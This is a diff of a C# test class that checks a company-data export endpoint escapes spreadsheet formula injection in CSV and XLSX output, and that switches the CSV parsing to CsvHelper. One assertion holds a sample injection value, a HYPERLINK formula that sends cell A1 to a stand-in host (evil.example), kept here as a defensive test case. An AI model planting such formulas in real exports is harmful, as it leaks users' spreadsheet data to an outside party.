@@ -41,7 +41,7 @@ public abstract class ExportTests : ApiTest
         var rows = await Csv(manager, "companies.csv");
         var hyperlink = rows.Single(r => r.Any(c => c.Contains("HYPERLINK")));
         Assert.AreEqual("'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", hyperlink[2]);
-        Assert.AreEqual("'+33 1 00 00 00 00", hyperlink[11]);
+        Assert.AreEqual("+33 1 00 00 00 00", hyperlink[11], "a phone number is left as it is: nothing to run, and no apostrophe to see");
         Assert.AreEqual("'-2+3 Conseil", rows.Single(r => r.Contains("'-2+3 Conseil"))[2]);
 
         var xlsx = await (await manager.GetAsync("/api/export/companies.xlsx")).Content.ReadAsByteArrayAsync();
@@ -84,7 +84,10 @@ public abstract class ExportTests : ApiTest
         var response = await client.GetAsync($"/api/export/{file}");
         Assert.AreEqual(HttpStatusCode.OK, response.StatusCode);
         var text = Encoding.UTF8.GetString(await response.Content.ReadAsByteArrayAsync()).TrimStart('\uFEFF');
-        return new CsvReader(new StringReader(text), ',').Records().Select(r => r.Fields).ToList();
+        using var csv = CsvHelper.CsvReader.FromText(text, CsvHelper.CsvReaderOptions.Default with { Separator = ',', HasHeader = false });
+        var rows = new List<string[]>();
+        while (csv.Read()) rows.Add([.. Enumerable.Range(0, csv.FieldCount).Select(csv.GetString)]);
+        return rows;
     }
 }
 
